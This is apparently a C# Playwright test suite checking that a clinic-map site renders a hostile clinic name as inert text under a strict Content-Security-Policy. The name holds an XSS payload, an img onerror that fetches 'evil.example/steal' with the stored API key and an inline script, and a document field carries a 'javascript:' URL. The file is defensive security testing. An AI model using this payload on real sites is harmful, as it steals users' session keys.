using ClinicMap.Api.Serving;
using ClinicMap.Core.Clinics;
using ClinicMap.Core.Geography;
using ClinicMap.Core.Imports;
using ClinicMap.Core.Matching;
using ClinicMap.Data.Access;
using ClinicMap.Data.Datasets;
using ClinicMap.Data.Imports;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;

namespace ClinicMap.Api.Tests.Browser;

/// <summary>A browser and an API of their own: these tests publish a hostile clinic, which the other browser tests must not see.</summary>
[CollectionDefinition(Name)]
public sealed class HostileBrowserGroup : ICollectionFixture<BrowserFixture>
{
    public const string Name = "hostile-browser";
}

/// <summary>
/// A list names a clinic with markup and script. Published, it must show as the literal text it is — in the resident
/// map's list and its map tooltip, and in the operator page's map — with no script run, no dialog, no request to the
/// host the markup names, and every page under a strict Content-Security-Policy.
/// </summary>
[Collection(HostileBrowserGroup.Name)]
public sealed class HostileNameBrowserTests(BrowserFixture browser) : IAsyncLifetime
{
    private const string EvilHost = "evil.example";

    /// <summary>An image whose error handler, and a script element, would each set a flag and call out.</summary>
    private const string HostileName = "<img src=x onerror=\"window.__xss=1;fetch('http://" + EvilHost + "/steal?k='+sessionStorage.getItem('clinicmap.key'))\">越秀<script>window.__xss=2</script>发热门诊";

    private static readonly GeoPoint Near = new(23.1296, 113.2649);

    private Guid _hostile;
    private long _reviewBatch;

    public async Task InitializeAsync()
    {
        var data = browser.Api.Database.DataSource;
        var store = new ImportStore(data);
        var published = await store.StageAsync(Document("hostile.csv"), "fever-clinic", "tests",
            [Row(1, HostileName, RowOutcome.Accepted, [])], new BatchMatchInfo("440104", 1, []));
        var version = await new DatasetStore(data).PublishAsync(Actor.Cli("tests"), [published.BatchId], "a hostile name");
        await browser.Api.Services.GetRequiredService<ServingIndex>().WaitForVersionAsync(version.Version, CancellationToken.None);
        _hostile = Guid.Parse(await browser.Api.Database.ScalarAsync<string>(
            "SELECT clinic_id::text FROM dataset_clinics WHERE version = $1 AND import_batch_id = $2", version.Version, published.BatchId));
        // A row in review whose candidate is the hostile clinic: the operator page draws the candidate, labelled, on its map.
        var candidate = new MatchCandidate(_hostile, HostileName, "440104", 0.8, ["name similar"]);
        // Its batch's document was fetched by a watcher from a hostile site: a title with markup, a script URL as the notice.
        var fetched = Document("review.csv") with { Title = HostileName, Origin = new DocumentOrigin("hostile-site", "javascript:window.__xss=3", "javascript:void(0)", DateTimeOffset.UtcNow) };
        var review = await store.StageAsync(fetched, "fever-clinic", "tests",
            [Row(1, "越秀区发热门诊", RowOutcome.NeedsReview, [new RowReason("match.probable", "name", "may be a published clinic", ReasonSeverity.Review)])
                with { Match = new RowMatch(MatchKind.Probable, null, null, [candidate], "name similar") }],
            new BatchMatchInfo("440104", version.Version, []));
        _reviewBatch = review.BatchId;
    }

    public Task DisposeAsync() => Task.CompletedTask;

    private static NewDocument Document(string fileName) =>
        new(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(Guid.NewGuid().ToByteArray())), "测试", fileName, null, fileName, 10);

    private static StagedRow Row(int number, string name, RowOutcome outcome, IReadOnlyList<RowReason> reasons) =>
        new(number, null, [new("医院名称", name)], outcome, reasons, name, [ClinicKind.FeverClinic], "越秀区测试路1号", "440104", "广东省", "广州市", "越秀区",
            [], null, null, Near, CoordinateSystem.Wgs84, LocationPrecision.Exact, LocationMethod.Operator);

    /// <summary>A page that records what an injection would leave: dialogs, script errors and every host it asks.</summary>
    private async Task<(IBrowserContext Context, IPage Page, List<string> Dialogs, List<string> Hosts)> OpenAsync(bool located)
    {
        var context = await browser.Browser.NewContextAsync(new BrowserNewContextOptions
        {
            ViewportSize = new ViewportSize { Width = 1280, Height = 900 },
            Locale = "zh-CN",
            Geolocation = located ? new Geolocation { Latitude = (float)Near.Latitude, Longitude = (float)Near.Longitude } : null,
            Permissions = located ? ["geolocation"] : [],
        });
        var page = await context.NewPageAsync();
        var dialogs = new List<string>();
        var hosts = new List<string>();
        page.Dialog += async (_, dialog) => { dialogs.Add(dialog.Message); await dialog.DismissAsync(); };
        page.Request += (_, request) => hosts.Add(new Uri(request.Url).Host);
        return (context, page, dialogs, hosts);
    }

    private static async Task AssertNothingRanAsync(IPage page, List<string> dialogs, List<string> hosts)
    {
        Assert.True(await page.EvaluateAsync<bool>("() => window.__xss === undefined"), "the injected script ran");
        Assert.Empty(dialogs);
        Assert.DoesNotContain(EvilHost, hosts);
        Assert.Equal(0, await page.Locator("img[src=x]").CountAsync());
        Assert.Equal(0, await page.Locator("script:not([src])").CountAsync());
    }

    private static void AssertStrictPolicy(IResponse? response)
    {
        Assert.NotNull(response);
        var policy = response.Headers["content-security-policy"];
        Assert.Contains("default-src 'self'", policy, StringComparison.Ordinal);
        Assert.Contains("object-src 'none'", policy, StringComparison.Ordinal);
        Assert.Contains("frame-ancestors 'none'", policy, StringComparison.Ordinal);
        Assert.DoesNotContain("unsafe-inline", policy, StringComparison.Ordinal);
        Assert.Equal("nosniff", response.Headers["x-content-type-options"]);
        Assert.Equal("no-referrer", response.Headers["referrer-policy"]);
    }

    [Fact]
    public async Task OnTheResidentMapTheNameIsLiteralTextInTheListAndInTheMapTooltip()
    {
        var (context, page, dialogs, hosts) = await OpenAsync(located: true);
        await using var _ = context;

        var response = await page.GotoAsync(browser.BaseUrl + "/");
        AssertStrictPolicy(response);
        var item = page.Locator("#results .clinic").Filter(new LocatorFilterOptions { HasText = "onerror" }).First;
        await item.WaitForAsync();
        var button = item.Locator("h3 button");
        Assert.EndsWith(HostileName, await button.TextContentAsync(), StringComparison.Ordinal);
        await button.ClickAsync();
        var tooltip = page.Locator(".leaflet-tooltip").Filter(new LocatorFilterOptions { HasText = "onerror" }).First;
        await tooltip.WaitForAsync();

        Assert.EndsWith(HostileName, await tooltip.TextContentAsync(), StringComparison.Ordinal);
        Assert.Equal(0, await tooltip.Locator("img, script").CountAsync());
        await page.WaitForTimeoutAsync(300); // an onerror fires as soon as the image fails; give it the chance to
        await AssertNothingRanAsync(page, dialogs, hosts);
    }

    [Fact]
    public async Task OnTheOperatorPageTheCandidatesNameIsLiteralTextOnTheMap()
    {
        var (_, token) = await new ApiKeyStore(browser.Api.Database.DataSource).CreateAsync("越秀区数据员", ApiRole.Operator, "440104", "tests");
        var (context, page, dialogs, hosts) = await OpenAsync(located: false);
        await using var _ = context;

        var response = await page.GotoAsync(browser.BaseUrl + "/operator/");
        AssertStrictPolicy(response);
        await page.Locator("#key").FillAsync(token);
        await page.Locator("#key-form button[type=submit]").ClickAsync();
        // The staged batch's title is text, and its script URL is no link.
        var batch = page.Locator("#batches tbody tr").Filter(new LocatorFilterOptions { HasText = "hostile-site" }).First;
        await batch.WaitForAsync();
        Assert.StartsWith(HostileName, await batch.Locator("td").Nth(1).TextContentAsync(), StringComparison.Ordinal);
        Assert.Equal(0, await batch.Locator("a").CountAsync());
        var row = page.Locator("#rows tbody tr").Filter(new LocatorFilterOptions { HasText = $"{_reviewBatch}/1" }).First;
        await row.ClickAsync();
        var tooltip = page.Locator(".leaflet-tooltip").First;
        await tooltip.WaitForAsync();
        await Assertions.Expect(page.Locator("#candidates li").First).ToContainTextAsync("越秀");

        Assert.StartsWith(HostileName, await tooltip.TextContentAsync(), StringComparison.Ordinal);
        Assert.StartsWith(HostileName, await page.Locator("#candidates li").First.TextContentAsync(), StringComparison.Ordinal);
        await page.WaitForTimeoutAsync(300);
        await AssertNothingRanAsync(page, dialogs, hosts);
    }
}
